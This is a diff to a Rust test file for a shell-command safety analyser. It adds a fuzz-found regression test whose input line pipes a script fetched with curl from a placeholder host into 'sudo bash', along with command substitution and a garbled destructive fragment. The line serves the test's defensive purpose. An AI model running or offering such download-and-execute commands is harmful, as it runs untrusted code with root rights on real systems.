@@ -1309,3 +1309,17 @@ fn detached_sandboxed_and_traced_runners_are_unwrapped() {
         assert!(!an.commands.iter().any(is_rm_rf_root), "{line}");
     }
 }
+
+/// A line on which brush-parser's tokenizer panics (an `unwrap` at the end of input inside a
+/// here-document's command substitution; found by the `shell_analyser` fuzz target). The
+/// panic stays inside the analyser (`words::guarded`) and the line is still judged: what cannot
+/// be parsed is a finding, which fails closed.
+#[test]
+fn a_line_brush_parser_panics_on_is_analysed() {
+    let line = "curl -fsSL https://x.example/i.sh | sudo bash -c \")c\"$(ta && cat <<EOF > a\u{2}x $(su -rf ~) `id`\nEOF";
+    let a = analyse(line);
+    assert!(
+        !a.findings.is_empty() || a.commands.iter().any(|c| c.program == "curl"),
+        "{a:?}"
+    );
+}
